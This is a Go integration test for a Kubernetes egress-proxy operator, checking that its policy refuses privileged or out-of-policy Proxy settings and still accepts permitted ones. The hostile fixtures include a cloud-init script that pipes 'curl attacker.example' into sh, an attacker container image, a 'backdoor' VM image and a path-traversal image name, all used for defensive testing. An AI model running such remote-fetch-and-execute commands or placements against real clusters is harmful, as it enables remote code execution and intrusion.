package proxy_test

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	xpv2 "github.com/crossplane/crossplane/apis/v2/core/v2"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/apis/egress/v1alpha1"
	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/internal/backend/gcp/gcpfake"
	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/internal/backend/local"
	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/internal/controller/proxy"
	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/internal/ownership"
	"gitea.home.hrajfrisbee.cz/kacerr/egress-proxies-operator/internal/testbed"
)

// TestPolicyRefusesOverrides plays a fleet author who asks, through the
// Proxies a fleet composes, for everything the platform's configuration
// does not permit: pods in kube-system, any image, any node, any network,
// tags, machine type, VM image and startup code, and private networks.
// Each Proxy is refused on the real apiserver with Synced=False and a
// Warning naming the field, the value and the policy, and nothing is made
// for it: no pod, VM, firewall rule or process. Values the policy lists
// still work.
func TestPolicyRefusesOverrides(t *testing.T) {
	bed := sharedBed.Env(t)
	ns := namespace(t)
	podNS := namespace(t)
	fake := gcpfake.Start(t)
	target := testbed.StartEchoTarget(t)
	stateDir := testbed.SquidStateDir(t)
	prov := startProvider(t, stateDir, providerLogs(t), target, func(o *proxy.Options) {
		o.Backends.(*proxy.Backends).GCPClientOptions = fake.ClientOptions()
		// An instance no longer permitted goes at once here.
		o.RefusedGrace = -1
	})
	defer prov.stop()
	ctx := context.Background()

	pods, vms, locals := "policy-pods-"+ns, "policy-gcp-"+ns, "policy-local-"+ns
	create(t,
		&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "auth", Labels: map[string]string{v1alpha1.LabelProxySecret: "true"}}, StringData: map[string]string{"username": "crawler", "password": password}},
		&v1alpha1.ClusterProviderConfig{ObjectMeta: metav1.ObjectMeta{Name: pods}, Spec: v1alpha1.ProviderConfigSpec{
			Backend:    v1alpha1.BackendKubernetes,
			Kubernetes: &v1alpha1.KubernetesBackend{Namespace: podNS, Credentials: &v1alpha1.KubernetesCredentials{Source: xpv2.CredentialsSourceInjectedIdentity}},
			Policy: &v1alpha1.Policy{Kubernetes: &v1alpha1.KubernetesPolicy{
				AllowedImages:           []string{"gitea.home.hrajfrisbee.cz/kacerr/egress-squid", "registry.example.com/proxies/"},
				AllowedNodeSelectorKeys: []string{"topology.kubernetes.io/zone", "egress.crawl.example.com/nat"},
			}},
		}},
		&v1alpha1.ClusterProviderConfig{ObjectMeta: metav1.ObjectMeta{Name: vms}, Spec: v1alpha1.ProviderConfigSpec{
			Backend: v1alpha1.BackendGCP,
			GCP:     &v1alpha1.GCPBackend{Project: "crawl-proj", Credentials: v1alpha1.GCPCredentials{Source: xpv2.CredentialsSourceInjectedIdentity}},
			Policy: &v1alpha1.Policy{GCP: &v1alpha1.GCPPolicy{
				AllowedNetworkTags: []v1alpha1.NetworkTag{"egress-proxy"}, AllowedMachineTypes: []string{"e2-micro", "e2-standard-2"},
			}},
		}},
		&v1alpha1.ClusterProviderConfig{ObjectMeta: metav1.ObjectMeta{Name: locals}, Spec: v1alpha1.ProviderConfigSpec{
			Backend: v1alpha1.BackendLocal,
			Policy:  &v1alpha1.Policy{AllowedPrivateDestinations: []v1alpha1.CIDR{"10.20.0.0/16"}, Local: &v1alpha1.LocalPolicy{AllowLoopbackDestinations: true}},
		}},
	)

	pod := func(k v1alpha1.KubernetesPlacement) func(*v1alpha1.Proxy) {
		return func(p *v1alpha1.Proxy) {
			p.Spec.ProviderConfigReference.Name = pods
			p.Spec.ForProvider.Local, p.Spec.ForProvider.Kubernetes = nil, &k
		}
	}
	vm := func(g v1alpha1.GCPInstance) func(*v1alpha1.Proxy) {
		return func(p *v1alpha1.Proxy) {
			p.Spec.ProviderConfigReference.Name = vms
			p.Spec.ForProvider.Local = nil
			p.Spec.ForProvider.GCP = &v1alpha1.GCPPlacement{Zone: "europe-west1-b", GCPInstance: g}
			p.Spec.ForProvider.AllowedSourceRanges = []v1alpha1.CIDR{"127.0.0.0/8"}
		}
	}
	private := func(c ...v1alpha1.CIDR) func(*v1alpha1.Proxy) {
		return func(p *v1alpha1.Proxy) {
			p.Spec.ProviderConfigReference.Name = locals
			p.Spec.ForProvider.AllowedPrivateDestinations = c
		}
	}
	script := "#!/bin/sh\ncurl attacker.example | sh\n"
	hostile := []struct {
		name   string
		modify func(*v1alpha1.Proxy)
		// want are the parts of the refusal: field, value and policy.
		want []string
	}{
		{"pod-in-kube-system", pod(v1alpha1.KubernetesPlacement{Namespace: "kube-system"}),
			[]string{`spec.forProvider.kubernetes.namespace "kube-system"`, pods, "spec.policy.kubernetes.allowedNamespaces"}},
		{"pod-any-image", pod(v1alpha1.KubernetesPlacement{Image: "docker.io/attacker/img:latest"}),
			[]string{`spec.forProvider.kubernetes.image "docker.io/attacker/img:latest"`, "spec.policy.kubernetes.allowedImages"}},
		{"pod-image-sharing-a-prefix", pod(v1alpha1.KubernetesPlacement{Image: "gitea.home.hrajfrisbee.cz/kacerr/egress-squidx:1"}),
			[]string{`spec.forProvider.kubernetes.image "gitea.home.hrajfrisbee.cz/kacerr/egress-squidx:1"`}},
		{"pod-image-escaping-a-prefix", pod(v1alpha1.KubernetesPlacement{Image: "registry.example.com/proxies/../attacker/img"}),
			[]string{`spec.forProvider.kubernetes.image`}},
		{"pod-any-node", pod(v1alpha1.KubernetesPlacement{NodeSelector: map[string]string{"kubernetes.io/hostname": "control-plane-1"}}),
			[]string{`spec.forProvider.kubernetes.nodeSelector "kubernetes.io/hostname"`, "spec.policy.kubernetes.allowedNodeSelectorKeys"}},
		{"vm-other-network", vm(v1alpha1.GCPInstance{Network: "projects/crawl-proj/global/networks/admin"}),
			[]string{`spec.forProvider.gcp.network "projects/crawl-proj/global/networks/admin"`, vms, "spec.policy.gcp.allowedNetworks"}},
		{"vm-privileged-tag", vm(v1alpha1.GCPInstance{NetworkTags: []v1alpha1.NetworkTag{"egress-proxy", "allow-ssh"}}),
			[]string{`spec.forProvider.gcp.networkTags "allow-ssh"`, "spec.policy.gcp.allowedNetworkTags"}},
		{"vm-huge-machine", vm(v1alpha1.GCPInstance{MachineType: "n2-highmem-96"}),
			[]string{`spec.forProvider.gcp.machineType "n2-highmem-96"`, "spec.policy.gcp.allowedMachineTypes"}},
		{"vm-any-image", vm(v1alpha1.GCPInstance{Image: "projects/attacker/global/images/backdoor"}),
			[]string{`spec.forProvider.gcp.image "projects/attacker/global/images/backdoor"`, "spec.policy.gcp.allowedImages"}},
		{"vm-own-code", vm(v1alpha1.GCPInstance{CloudInit: &v1alpha1.CloudInit{Inline: &script}}),
			[]string{"spec.forProvider.gcp.cloudInit", "spec.policy.gcp.allowCloudInit is false"}},
		{"local-on-every-address", func(p *v1alpha1.Proxy) {
			p.Spec.ProviderConfigReference.Name = locals
			p.Spec.ForProvider.Local.BindAddress = "0.0.0.0"
		}, []string{`spec.forProvider.local.bindAddress "0.0.0.0"`, "spec.policy.local.allowedBindAddresses"}},
		{"private-network", private("10.0.0.0/8"),
			[]string{`spec.forProvider.allowedPrivateDestinations "10.0.0.0/8"`, locals, "spec.policy.allowedPrivateDestinations"}},
	}
	inserts := fake.Calls("instances.insert") + fake.Calls("firewalls.insert")
	for i, tc := range hostile {
		p := proxyObject(ns, tc.name, int32(32400+i), target.URL)
		tc.modify(p)
		create(t, p)
	}
	for _, tc := range hostile {
		t.Run(tc.name, func(t *testing.T) {
			key := types.NamespacedName{Namespace: ns, Name: tc.name}
			testbed.Eventually(t, 15*time.Second, "Synced=False naming the refusal", func() (bool, string) {
				p := get(t, key)
				s, r := p.GetCondition(xpv2.TypeSynced), p.GetCondition(xpv2.TypeReady)
				ok := s.Status == corev1.ConditionFalse && r.Reason == proxy.ReasonNotPermitted
				for _, w := range tc.want {
					ok = ok && strings.Contains(s.Message, w) && strings.Contains(r.Message, w)
				}
				return ok, fmt.Sprintf("Synced=%s %q; Ready=%s %s", s.Status, s.Message, r.Status, r.Reason)
			})
			// Events are sent asynchronously, after the status.
			testbed.Eventually(t, 10*time.Second, "a Warning event naming "+tc.want[0], func() (bool, string) {
				events := &corev1.EventList{}
				if err := sharedBed.Env(t).Client.List(ctx, events, client.InNamespace(ns)); err != nil {
					return false, err.Error()
				}
				for _, e := range events.Items {
					if e.InvolvedObject.Name == tc.name && e.Type == corev1.EventTypeWarning && strings.Contains(e.Message, tc.want[0]) {
						return true, ""
					}
				}
				return false, fmt.Sprintf("%d events in the namespace", len(events.Items))
			})
		})
	}

	// Nothing was made for any of them.
	for _, n := range []string{podNS, "kube-system", ns} {
		l := &corev1.PodList{}
		if err := bed.Client.List(ctx, l, client.InNamespace(n), client.HasLabels{ownership.LabelUID}); err != nil {
			t.Fatal(err)
		}
		if len(l.Items) != 0 {
			t.Errorf("refused Proxies made pods in %s: %d", n, len(l.Items))
		}
	}
	if n := fake.Calls("instances.insert") + fake.Calls("firewalls.insert"); n != inserts || fake.Instances() != 0 {
		t.Errorf("refused Proxies made VMs or firewall rules: %d inserts, %d VMs", n-inserts, fake.Instances())
	}
	if pids := local.Processes(stateDir); len(pids) != 0 {
		t.Errorf("refused Proxies started Squid: %v", pids)
	}

	t.Run("AllowedValuesStillWork", func(t *testing.T) {
		allowed := []struct {
			name   string
			modify func(*v1alpha1.Proxy)
			made   func() bool
		}{
			{"pod-listed-prefix", pod(v1alpha1.KubernetesPlacement{Image: "registry.example.com/proxies/squid:6.6", NodeSelector: map[string]string{"egress.crawl.example.com/nat": "distinct"}}),
				func() bool { return podCount(t, podNS) == 1 }},
			{"vm-listed-machine", vm(v1alpha1.GCPInstance{MachineType: "e2-standard-2", NetworkTags: []v1alpha1.NetworkTag{"egress-proxy"}}),
				func() bool { return fake.Instances() == 1 }},
			{"private-within-policy", private("10.20.1.0/24"),
				func() bool { return len(local.Processes(stateDir)) == 1 }},
		}
		for i, a := range allowed {
			p := proxyObject(ns, a.name, int32(32450+i), target.URL)
			a.modify(p)
			create(t, p)
		}
		for _, a := range allowed {
			testbed.Eventually(t, 15*time.Second, a.name+" is made", func() (bool, string) {
				s := get(t, types.NamespacedName{Namespace: ns, Name: a.name}).GetCondition(xpv2.TypeSynced)
				return a.made() && s.Status == corev1.ConditionTrue, fmt.Sprintf("Synced=%s %q", s.Status, s.Message)
			})
		}
		// The platform tightens its policy: the pod that runs an image it
		// no longer permits goes, and no other takes its place.
		cpc := &v1alpha1.ClusterProviderConfig{}
		if err := bed.Client.Get(ctx, types.NamespacedName{Name: pods}, cpc); err != nil {
			t.Fatal(err)
		}
		cpc.Spec.Policy.Kubernetes.AllowedImages = []string{"gitea.home.hrajfrisbee.cz/kacerr/egress-squid"}
		if err := bed.Client.Update(ctx, cpc); err != nil {
			t.Fatal(err)
		}
		testbed.Eventually(t, 15*time.Second, "the pod no longer permitted deleted", func() (bool, string) {
			p := get(t, types.NamespacedName{Namespace: ns, Name: "pod-listed-prefix"})
			r := p.GetCondition(xpv2.TypeReady)
			n := podCount(t, podNS)
			return n == 0 && r.Reason == proxy.ReasonNotPermitted && strings.Contains(r.Message, "registry.example.com/proxies/squid:6.6"),
				fmt.Sprintf("pods=%d Ready=%s %q", n, r.Reason, r.Message)
		})
		for _, a := range allowed {
			if err := bed.Client.Delete(ctx, &v1alpha1.Proxy{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: a.name}}); err != nil {
				t.Fatal(err)
			}
		}
		testbed.Eventually(t, 15*time.Second, "allowed proxies deleted with what was made for them", func() (bool, string) {
			n, v, l := podCount(t, podNS), fake.Instances(), len(local.Processes(stateDir))
			return n == 0 && v == 0 && l == 0, fmt.Sprintf("pods=%d vms=%d squids=%d", n, v, l)
		})
	})

	// Refused Proxies are deleted without trouble: nothing to clean up.
	for _, tc := range hostile {
		if err := bed.Client.Delete(ctx, &v1alpha1.Proxy{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: tc.name}}); err != nil {
			t.Fatal(err)
		}
	}
	testbed.Eventually(t, 15*time.Second, "refused Proxies deleted", func() (bool, string) {
		l := &v1alpha1.ProxyList{}
		_ = bed.Client.List(ctx, l, client.InNamespace(ns))
		return len(l.Items) == 0, fmt.Sprintf("%d left", len(l.Items))
	})
}

func podCount(t *testing.T, ns string) int {
	l := &corev1.PodList{}
	if err := sharedBed.Env(t).Client.List(context.Background(), l, client.InNamespace(ns), client.HasLabels{ownership.LabelUID}); err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, p := range l.Items {
		if p.DeletionTimestamp == nil {
			n++
		}
	}
	return n
}
